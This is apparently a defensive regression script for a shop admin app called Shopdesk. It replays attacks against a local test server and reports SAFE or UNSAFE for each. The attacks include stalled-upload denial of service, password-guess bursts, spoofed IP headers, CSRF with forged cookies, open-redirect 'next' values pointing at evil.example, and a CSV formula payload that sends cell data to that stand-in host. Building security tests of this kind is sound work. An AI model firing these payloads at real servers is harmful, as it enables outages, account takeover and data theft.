#!/usr/bin/env python3
"""Replays the attacks Shopdesk must withstand against a running server and
prints SAFE or UNSAFE for each: stalled uploads, unread downloads, bursts of
wrong passwords, forged addresses, lock-out, racing admins, CSRF, inputs that
used to give 500s, CSV formulas, caching and cookie headers.

It changes the database it is pointed at (staff roles, sign-in attempts,
customers, a product): use a throwaway copy, never a real shop.

    shopdesk generate --users 10000 --products 1000 --orders 150000
    echo admin-password-1 | shopdesk create-staff --email admin@shop.local --name Admin --role admin
    echo boss-password-12 | shopdesk create-staff --email boss@shop.local --name Boss --role admin
    ROCKET_PORT=8112 ROCKET_SECRET_KEY=... shopdesk serve &
    scripts/attack-repro.py 8112 postgres://postgres@127.0.0.1:5432/<database>

The lock-out check connects from 127.0.0.2 to 127.0.0.39, which Linux's
loopback accepts."""
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.parse

PORT = int(sys.argv[1])
DB = sys.argv[2]
ADMIN = ("admin@shop.local", "admin-password-1")
BOSS = ("boss@shop.local", "boss-password-12")


def psql(sql):
    return subprocess.run(["psql", DB, "-Atc", sql], capture_output=True, text=True).stdout.strip()


def raw(head, body=b"", src="127.0.0.1", timeout=30, read=True):
    s = socket.socket()
    s.bind((src, 0))
    s.settimeout(timeout)
    s.connect(("127.0.0.1", PORT))
    s.sendall(head.encode() + body)
    if not read:
        return s
    data = b""
    while True:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            break
        if not chunk:
            break
        data += chunk
    s.close()
    return data


def parse(data):
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin1").split("\r\n")
    status = int(lines[0].split()[1]) if lines and len(lines[0].split()) > 1 else 0
    headers = [tuple(x.strip() for x in l.split(":", 1)) for l in lines[1:] if ":" in l]
    return status, headers, body


def req(method, path, cookie="", form=None, extra=(), src="127.0.0.1"):
    head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
    if cookie:
        head += f"Cookie: {cookie}\r\n"
    for k, v in extra:
        head += f"{k}: {v}\r\n"
    body = b""
    if form is not None:
        body = urllib.parse.urlencode(form).encode()
        head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
    head += "\r\n"
    return parse(raw(head, body, src=src))


def cookies(headers, old=""):
    jar = dict(p.split("=", 1) for p in old.split("; ") if "=" in p)
    for k, v in headers:
        if k.lower() == "set-cookie":
            name, _, value = v.split(";")[0].partition("=")
            if value:
                jar[name] = value
            else:
                jar.pop(name, None)
    return "; ".join(f"{k}={v}" for k, v in jar.items())


def token(body):
    m = re.search(rb'name="csrf" value="([^"]*)"', body)
    return m.group(1).decode() if m else ""


def sign_in(email, password, src="127.0.0.1"):
    st, h, b = req("GET", "/sign-in", src=src)
    jar = cookies(h)
    st, h, b = req("POST", "/sign-in", jar, {"csrf": token(b), "email": email, "password": password, "next": "/"}, src=src)
    jar = cookies(h, jar)
    st2, h2, b2 = req("GET", "/", jar, src=src)
    return st, jar, token(b2)


def timed(path, jar):
    t = time.time()
    st, _, _ = req("GET", path, jar)
    return st, time.time() - t


def header(headers, name):
    for k, v in headers:
        if k.lower() == name.lower():
            return v
    return None


results = []


def report(name, ok, detail):
    results.append((name, ok, detail))
    print(f"[{'SAFE' if ok else 'UNSAFE'}] {name}: {detail}", flush=True)


st, admin, admin_csrf = sign_in(*ADMIN)
assert st == 303, st

# 1. Stalled sign-in / sign-out bodies.
for path in ["/sign-in", "/sign-out"]:
    st, h, b = req("GET", "/sign-in")
    pre = cookies(h)
    cookie = pre if path == "/sign-in" else admin
    head = (f"POST {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {cookie}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\n")
    socks = [raw(head, b"email=" + b"a" * 694, read=False) for _ in range(16)]
    time.sleep(0.5)
    worst, statuses = 0, set()
    for _ in range(5):
        s, t = timed("/", admin)
        r, _ = timed("/readyz", admin)
        statuses.add((s, r))
        worst = max(worst, t)
        time.sleep(0.2)
    report(f"16 stalled {path} bodies", statuses == {(200, 200)} and worst < 1,
           f"page/readyz statuses {sorted(statuses)}, slowest page {worst:.3f}s")
    # The server ends each stalled upload after the body timeout.
    socks[0].settimeout(15)
    t = time.time()
    try:
        first = socks[0].recv(4096)
    except socket.timeout:
        first = b""
    report(f"stalled {path} body timed out", first.startswith(b"HTTP/1.1 408"),
           f"{first[:20]!r} after {time.time() - t:.1f}s")
    for s in socks:
        s.close()

# 2. Unread CSV downloads (150k orders).
head = f"GET /orders.csv HTTP/1.1\r\nHost: localhost\r\nCookie: {admin}\r\n\r\n"
socks = []
for _ in range(16):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("127.0.0.1", PORT))
    s.sendall(head.encode())
    socks.append(s)
worst, statuses = 0, set()
t0 = time.time()
while time.time() - t0 < 36:
    s, t = timed("/", admin)
    r, _ = timed("/readyz", admin)
    statuses.add((s, r))
    worst = max(worst, t)
    time.sleep(0.5)
report("16 unread /orders.csv downloads over 36 s", statuses == {(200, 200)} and worst < 1,
       f"page/readyz statuses {sorted(statuses)}, slowest page {worst:.3f}s")
for s in socks:
    s.close()
time.sleep(1)

st, h, b = req("GET", "/users.csv?joined_from=-4714-01-01", admin)
report("/users.csv?joined_from=-4714-01-01", 400 <= st < 500, f"{st}, {b[:90]!r}")

# 3. A burst of 25 wrong passwords for one account.
psql("DELETE FROM sign_in_attempts")
st, h, b = req("GET", "/sign-in")
pre, tok = cookies(h), token(b)
answers = []
def attempt():
    st, _, b = req("POST", "/sign-in", pre, {"csrf": tok, "email": BOSS[0], "password": "wrong password"})
    answers.append(st)
threads = [threading.Thread(target=attempt) for _ in range(25)]
[t.start() for t in threads]
[t.join() for t in threads]
checked = answers.count(200)
report("25 simultaneous wrong passwords", checked <= 5, f"{checked} checked, {answers.count(429)} refused (429)")

# 4. Spoofed X-Real-IP.
psql("DELETE FROM sign_in_attempts")
for i in range(8):
    req("POST", "/sign-in", pre, {"csrf": tok, "email": BOSS[0], "password": "nope"}, extra=[("X-Real-IP", f"6.6.6.{i}")])
addresses = psql("SELECT string_agg(DISTINCT address, ',') FROM sign_in_attempts")
throttled = psql("SELECT count(*) FROM sign_in_attempts WHERE throttled")
report("spoofed X-Real-IP", "6.6.6" not in addresses, f"addresses recorded: {addresses}; {throttled} of 8 refused")

# 5. Lock-out: the owner (from 127.0.0.2, where they signed in before) after failures from other addresses.
psql("DELETE FROM sign_in_attempts")
st, jar, _ = sign_in(*BOSS, src="127.0.0.2")
for i in range(3, 40):
    src = f"127.0.0.{i}"
    st, h, b = req("GET", "/sign-in", src=src)
    req("POST", "/sign-in", cookies(h), {"csrf": token(b), "email": BOSS[0], "password": "guess"}, src=src)
st, _, _ = sign_in(*BOSS, src="127.0.0.2")
report("owner after 37 attackers' failures", st == 303, f"owner's sign-in answered {st}")

# 6. Mutual demotion.
boss_id = psql(f"SELECT id FROM staff WHERE email = '{BOSS[0]}'")
admin_id = psql(f"SELECT id FROM staff WHERE email = '{ADMIN[0]}'")
bad = []
for round_ in range(10):
    psql("UPDATE staff SET role = 'admin', disabled = false")
    _, a_jar, a_tok = sign_in(*ADMIN)
    _, b_jar, b_tok = sign_in(*BOSS, src="127.0.0.2")
    out = {}
    kind = "role" if round_ % 2 == 0 else "disable"
    def post(name, jar, tok, target):
        out[name] = req("POST", f"/staff/{target}", jar, {"csrf": tok, "change": kind, "role": "viewer"})[0]
    ts = [threading.Thread(target=post, args=("a", a_jar, a_tok, boss_id)),
          threading.Thread(target=post, args=("b", b_jar, b_tok, admin_id))]
    [t.start() for t in ts]
    [t.join() for t in ts]
    admins = int(psql("SELECT count(*) FROM staff WHERE role = 'admin' AND NOT disabled"))
    if admins < 1 or any(v >= 500 for v in out.values()):
        bad.append((kind, out, admins))
psql("UPDATE staff SET role = 'admin', disabled = false")
report("10 rounds of mutual demotion/disabling", not bad, f"failures: {bad}" if bad else "always one admin left, no 500")

# 7. Own password change with a stolen cookie.
saved_hash = psql(f"SELECT password_hash FROM staff WHERE id = {admin_id}")
_, jar, tok = sign_in(*ADMIN)
st, h, b = req("POST", f"/staff/{admin_id}", jar, {"csrf": tok, "change": "password", "password": "stolen-cookie-pw"})
_, still, _ = sign_in(*ADMIN)
changed = psql(f"SELECT password_hash FROM staff WHERE id = {admin_id}") != saved_hash
report("own password change without the current one", not changed, f"answered {st}; password {'CHANGED' if changed else 'unchanged'}")
psql(f"UPDATE staff SET password_hash = '{saved_hash}', session_epoch = session_epoch + 1 WHERE id = {admin_id}")

# 8. CSRF bound to the session.
_, a_jar, a_tok = sign_in(*ADMIN)
_, b_jar, b_tok = sign_in(*BOSS, src="127.0.0.2")
st1, _, _ = req("POST", "/users", a_jar, {"csrf": b_tok, "name": "Eve", "email": "eve@example.com"})
st, h, b = req("GET", "/sign-in")
st2, _, _ = req("POST", "/users", a_jar + "; " + cookies(h), {"csrf": token(b), "name": "Eve", "email": "eve@example.com"})
report("CSRF token from another session / a signed-out visitor", st1 == 403 and st2 == 403, f"{st1}, {st2}")

# 9. Demo credentials.
st, jar, _ = sign_in("viewer@shopdesk.demo", "look-but-dont-touch")
report("published demo viewer on a release server", st != 303, f"sign-in answered {st}")

# 10. The former 500s.
_, jar, tok = sign_in(*ADMIN)
cases = [
    ("GET", "/sign-in?next=/%20/evil.example"),
    ("GET", "/sign-in?next=/%E3%80%80/evil.example"),
    ("GET", "/sign-in?next=/%EF%BC%8Fevil.example"),
    ("GET", "/users?joined_from=-4714-01-01"),
    ("GET", "/orders?from=-9999-01-01"),
    ("GET", "/audit?to=-262143-01-01"),
    ("GET", "/orders?sort=placed&after=0000-01-01%2000:00:00%2B00~1"),
    ("GET", "/users?sort=joined&after=-2026-11-29%2004:33:23.091826%2B00~5"),
]
for method, path in cases:
    st, _, _ = req(method, path, jar)
    report(f"{method} {path}", st < 500, f"{st}")
before = psql("SELECT count(*) FROM audit_log WHERE action = 'sign_in'")
st, h, b = req("GET", "/sign-in")
st, h2, _ = req("POST", "/sign-in", cookies(h), {"csrf": token(b), "email": ADMIN[0], "password": ADMIN[1], "next": "/orders x"})
after = psql("SELECT count(*) FROM audit_log WHERE action = 'sign_in'")
report("POST /sign-in next=/orders x", st < 500, f"{st} to {header(h2, 'location')}, sign-ins recorded {before}->{after}")
st, h, b = req("GET", "/sign-in")
st, _, body = req("POST", "/sign-in", cookies(h), {"csrf": token(b), "email": "admin@shop.local\0", "password": "x"})
report("NUL in the sign-in email", st < 500, f"{st}")
for name in ["\u200b\u200b", "Ada \u202eecalevol"]:
    st, _, body = req("POST", "/users", jar, {"csrf": tok, "name": name, "email": "zw@example.com"})
    report(f"customer named {name!r}", st == 200 and b"field-error" in body, f"{st}, form shown again with an error")
st, _, body = req("GET", "/pickers/customers?q=%00", jar)
report("picker q=%00", body == b"[]", f"{st} {body[:40]!r}")

# 11. CSV formula injection.
psql("INSERT INTO products (name, sku, price_cents, stock) VALUES ('=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")', 'EVIL-1', 100, 1) ON CONFLICT DO NOTHING")
st, _, body = req("GET", "/products.csv?q=HYPERLINK", jar)
last = body.splitlines()[-3:] if body else [b"(empty)"]
report("CSV formula cell", b"'=HYPERLINK" in body and b",=HYPERLINK" not in body and b'"=HYPERLINK' not in body, f"{st} " + " | ".join(l[:70].decode(errors="replace") for l in last))

# 12. Caching and small items.
for path in ["/", "/users", "/pickers/customers?q=a", "/users.csv?q=zzzz"]:
    st, h, _ = req("GET", path, jar)
    report(f"Cache-Control on {path}", header(h, "cache-control") == "no-store", f"{header(h, 'cache-control')}")
st, h, _ = req("GET", "/metrics")
report("/metrics without a token", st in (401, 404), f"{st}")
st, h, _ = req("GET", "/")
report("Server banner", header(h, "server") is None, f"Server: {header(h, 'server')}")
st, h, _ = req("POST", "/users", jar, {"csrf": tok, "name": "Flash Test", "email": f"flash{time.time():.0f}@example.com"})
flash = [v for k, v in h if k.lower() == "set-cookie" and v.startswith("_flash=")]
report("flash cookie", bool(flash) and "HttpOnly" in flash[0], flash[0] if flash else "none")
st, h, b = req("GET", "/sign-in")
st, h, _ = req("POST", "/sign-in", cookies(h), {"csrf": token(b), "email": ADMIN[0], "password": ADMIN[1]})
sess = [v for k, v in h if k.lower() == "set-cookie" and v.startswith("shopdesk_session=")]
report("session cookie lifetime", bool(sess) and "Max-Age=43200" in sess[0], re.sub(r"=[^;]*;", "=…;", sess[0], 1) if sess else "none")

# 13. Cookies the client writes itself, and where sign-in leads.
staff_id = psql(f"SELECT id FROM staff WHERE email = '{ADMIN[0]}'")
epoch = psql(f"SELECT session_epoch FROM staff WHERE email = '{ADMIN[0]}'")
now = int(time.time())
forged_pending = urllib.parse.quote(f'{{"staff_id":{staff_id},"epoch":{epoch},"issued":{now},"next":"/","csrf":"forged"}}')
st, h, _ = req("GET", "/sign-in/code", f"shopdesk_pending={forged_pending}")
report("plain-text pending second-factor cookie", st == 303 and header(h, "location") == "/sign-in", f"{st} → {header(h, 'location')}")
forged_session = urllib.parse.quote(f'{{"staff_id":{staff_id},"epoch":{epoch},"issued":{now},"seen":{now},"csrf":"forged"}}')
st, h, _ = req("POST", "/sign-out", f"shopdesk_session={forged_session}", {"csrf": "forged"})
report("plain-text session cookie as a CSRF token", st == 403, f"{st}")
st, h, _ = req("POST", "/sign-in", "shopdesk_csrf=forged", {"csrf": "forged", "email": ADMIN[0], "password": ADMIN[1], "next": "/"})
report("plain-text pre-session CSRF token", st == 403, f"{st}")
for nxt in ["//evil.example", "/\\evil.example", "/%2F%2Fevil.example", "/%5C%5Cevil.example", "https://evil.example"]:
    st, h, b = req("GET", "/sign-in")
    st, h, _ = req("POST", "/sign-in", cookies(h), {"csrf": token(b), "email": ADMIN[0], "password": ADMIN[1], "next": nxt})
    report(f"next={nxt}", header(h, "location") == "/", f"{st} → {header(h, 'location')}")

# 14. Invalid ids in the orders filter, and an expired session's picker.
for q in ["product_id=abc", "product_id=-1", "user_id=abc"]:
    st, _, body = req("GET", f"/orders?{q}", jar)
    report(f"/orders?{q}", st == 200 and b'<td><a href="/orders/' not in body, f"{st}, no rows")
    st, _, _ = req("GET", f"/orders.csv?{q}", jar)
    report(f"/orders.csv?{q}", 400 <= st < 500, f"{st}")
st, h, body = req("GET", "/pickers/customers?q=a")
report("picker without a session", st == 401 and body.startswith(b"{"), f"{st} {body[:60]!r}")

print()
unsafe = [r for r in results if not r[1]]
print(f"{len(results) - len(unsafe)} safe, {len(unsafe)} unsafe")
